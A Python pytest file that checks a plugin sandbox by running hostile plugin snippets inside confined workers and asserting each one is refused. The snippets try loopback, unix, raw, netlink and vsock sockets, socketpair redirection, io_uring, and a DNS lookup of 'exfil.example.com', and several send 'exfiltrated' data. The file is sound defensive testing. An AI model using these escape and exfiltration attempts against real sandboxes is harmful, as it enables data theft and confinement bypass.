"""Hostile plugins against the network: loopback TCP/UDP listeners of the host, unix sockets on
disk and abstract ones, raw and netlink sockets, datagram socketpairs, io_uring, DNS, and the
worker's own connected sockets reused to reach somewhere else.

seccomp refuses every new socket (EPERM) but the AF_UNIX stream socketpair asyncio needs; Landlock
refuses TCP bind/connect and abstract unix sockets outside the domain even on a socket that got
through. Each listener records whoever reaches it; the tests assert it recorded nothing.
"""

from __future__ import annotations

import asyncio
import errno
import socket
import sys

import pytest

from .conftest import Attack, Listeners, assert_refused, wait_for

pytestmark = [pytest.mark.skipif(sys.platform != "linux", reason="confined workers are Linux-only"),
              pytest.mark.timeout(60)]

# Each attack creates the socket and, if that worked, goes on to reach the matching host listener.
SOCKETS = {
    "tcp4_connect_loopback": """
        import socket
        def attack(ctx, cfg):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect(("127.0.0.1", cfg["tcp_port"]))
            return "connected"
    """,
    "tcp6_connect_loopback": """
        import socket
        def attack(ctx, cfg):
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect(("::ffff:127.0.0.1", cfg["tcp_port"]))
            return "connected"
    """,
    "tcp_bind_listen": """
        import socket
        def attack(ctx, cfg):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind(("0.0.0.0", 0))
            s.listen()
            return s.getsockname()
    """,
    "udp_sendto_loopback": """
        import socket
        def attack(ctx, cfg):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"exfiltrated", ("127.0.0.1", cfg["udp_port"]))
            return "sent"
    """,
    "unix_connect_path": """
        import socket
        def attack(ctx, cfg):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(cfg["unix_path"])
            return "connected"
    """,
    "unix_dgram_sendto_path": """
        import socket
        def attack(ctx, cfg):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            s.sendto(b"exfiltrated", cfg["unix_dgram_path"])
            return "sent"
    """,
    "unix_connect_abstract": """
        import socket
        def attack(ctx, cfg):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(b"\\0" + cfg["abstract_name"].encode())
            return "connected"
    """,
    "raw_inet": """
        import socket
        def attack(ctx, cfg):
            return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).fileno()
    """,
    "netlink_route": """
        import socket
        def attack(ctx, cfg):
            s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
            s.bind((0, 0))
            return "netlink open"
    """,
    "packet_raw": """
        import socket
        def attack(ctx, cfg):
            return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).fileno()
    """,
    "vsock": """
        import socket
        def attack(ctx, cfg):
            return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).fileno()
    """,
}


@pytest.mark.parametrize("how", sorted(SOCKETS))
async def test_hostile_new_socket_is_refused(attack: Attack, listeners: Listeners, how: str) -> None:
    run = await attack.run(SOCKETS[how], listeners.as_config())
    assert_refused(run.result, errno.EPERM)
    assert "socket" in run.result["error"] or run.result["type"] == "PermissionError"
    await attack.aftermath(listeners=listeners)


@pytest.mark.parametrize("kind", ["SOCK_DGRAM", "SOCK_SEQPACKET"])
async def test_hostile_non_stream_socketpair_is_refused(attack: Attack, listeners: Listeners, kind: str) -> None:
    """An unnamed datagram socket could sendto() any named unix socket on the host."""
    run = await attack.run("""
        import socket
        def attack(ctx, cfg):
            a, b = socket.socketpair(socket.AF_UNIX, getattr(socket, cfg["kind"]))
            a.sendto(b"exfiltrated", cfg["unix_dgram_path"])
            return "sent"
    """, {**listeners.as_config(), "kind": kind})
    assert_refused(run.result, errno.EPERM)
    await attack.aftermath(listeners=listeners)


@pytest.mark.parametrize("target", ["unix_path", "abstract", "unix_dgram_path"])
async def test_hostile_stream_socketpair_cannot_be_redirected(
    attack: Attack, listeners: Listeners, target: str
) -> None:
    """The one socket kind a worker may make (asyncio's self-pipe) is born connected: it cannot be
    pointed at a host socket, nor used to send a datagram anywhere."""
    run = await attack.run("""
        import socket
        def attack(ctx, cfg):
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            addr = {"unix_path": cfg["unix_path"], "unix_dgram_path": cfg["unix_dgram_path"],
                    "abstract": b"\\0" + cfg["abstract_name"].encode()}[cfg["target"]]
            if cfg["target"] == "unix_dgram_path":
                a.sendto(b"exfiltrated", addr)
            else:
                a.connect(addr)
            return "redirected"
    """, {**listeners.as_config(), "target": target})
    assert_refused(run.result, errno.EISCONN, errno.EPERM, errno.EACCES)
    await attack.aftermath(listeners=listeners)


async def test_hostile_channel_socket_cannot_be_redirected(attack: Attack, listeners: Listeners) -> None:
    """The channel to the host is a socket the worker holds: it cannot reconnect it elsewhere."""
    run = await attack.run("""
        import socket
        def attack(ctx, cfg):
            s = socket.socket(fileno=os.dup(channel_fd(ctx)))
            try:
                s.connect(b"\\0" + cfg["abstract_name"].encode())
            finally:
                s.detach()
            return "redirected"
    """, listeners.as_config())
    assert_refused(run.result, errno.EISCONN, errno.EPERM, errno.EACCES)
    await attack.aftermath(listeners=listeners)


async def test_hostile_io_uring_is_refused(attack: Attack, listeners: Listeners) -> None:
    """io_uring can open sockets and files without the syscalls seccomp sees: it must not exist."""
    run = await attack.run("""
        def attack(ctx, cfg):
            params = ctypes.create_string_buffer(120)  # struct io_uring_params, zeroed
            return syscall(425, 8, params)  # io_uring_setup
    """)
    assert_refused(run.result, errno.EPERM)
    await attack.aftermath(listeners=listeners)


async def test_hostile_dns_lookup_goes_nowhere(attack: Attack, listeners: Listeners) -> None:
    run = await attack.run("""
        import socket
        def attack(ctx, cfg):
            return socket.getaddrinfo("exfil.example.com", 53)
    """)
    assert_refused(run.result, errno.EPERM, errno.EACCES, types=("gaierror",))
    await attack.aftermath(listeners=listeners)


async def test_hostile_fetch_without_permission_is_refused(attack: Attack, listeners: Listeners) -> None:
    run = await attack.run("""
        async def attack(ctx, cfg):
            return await ctx.net.fetch(f"http://127.0.0.1:{cfg['tcp_port']}/")
    """, listeners.as_config())
    assert_refused(run.result, types=("CapabilityError",))
    assert "net:fetch" in run.result["error"]
    await attack.aftermath(listeners=listeners)


@pytest.mark.parametrize("host_form", ["127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "2130706433"])
async def test_hostile_fetch_to_loopback_is_refused(attack: Attack, listeners: Listeners, host_form: str) -> None:
    """With net:fetch and its own allowlist naming the loopback, the address check still refuses."""
    allow = "*" if host_form.startswith("[") or host_form.isdigit() else host_form
    run = await attack.run("""
        async def attack(ctx, cfg):
            return await ctx.net.fetch(f"http://{cfg['host']}:{cfg['tcp_port']}/", timeout_ms=2000)
    """, {**listeners.as_config(), "host": host_form}, permissions=["storage:use", "net:fetch"],
        net={"allow": [allow]})
    assert_refused(run.result, types=("CapabilityError",))
    await attack.aftermath(listeners=listeners)


async def test_listener_fixture_really_records(listeners: Listeners) -> None:
    """The zero-hit assertions above mean something: an unconfined client is recorded everywhere."""
    loop = asyncio.get_running_loop()
    for family, addr, kind in ((socket.AF_INET, ("127.0.0.1", listeners.tcp_port), socket.SOCK_STREAM),
                               (socket.AF_UNIX, listeners.unix_path, socket.SOCK_STREAM),
                               (socket.AF_UNIX, b"\0" + listeners.abstract_name.encode(), socket.SOCK_STREAM),
                               (socket.AF_INET, ("127.0.0.1", listeners.udp_port), socket.SOCK_DGRAM),
                               (socket.AF_UNIX, listeners.unix_dgram_path, socket.SOCK_DGRAM)):
        with socket.socket(family, kind) as s:
            s.setblocking(False)
            if kind == socket.SOCK_STREAM:
                await loop.sock_connect(s, addr)
            else:
                s.sendto(b"hello", addr)
    await wait_for(lambda: len(listeners.hits) == 5, within=2)
    assert sorted(h.split(":")[0] for h in listeners.hits) == ["abstract", "tcp", "udp", "unix", "unix-dgram"]
